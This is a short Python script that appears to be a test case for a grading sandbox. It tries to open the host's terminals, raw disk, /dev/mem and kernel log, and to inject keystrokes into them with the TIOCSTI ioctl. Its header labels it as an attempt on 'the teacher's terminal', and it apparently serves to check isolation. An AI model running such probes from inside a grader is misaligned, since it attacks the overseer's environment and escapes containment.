# title: The terminal, devices and input of whoever started the grader
# base: release
# score: 0
# secret: the teacher's terminal
import fcntl
import os

for path in (
    "/dev/tty",
    "/dev/console",
    "/dev/stdin",
    "/dev/pts/0",
    "/dev/vda",
    "/dev/kmsg",
    "/dev/mem",
    "/dev/fuse",
):
    try:
        descriptor = os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
        fcntl.ioctl(descriptor, 0x5412, b"x")  # TIOCSTI: type into it
        print("opened", path)
    except OSError:
        pass
print("looked")
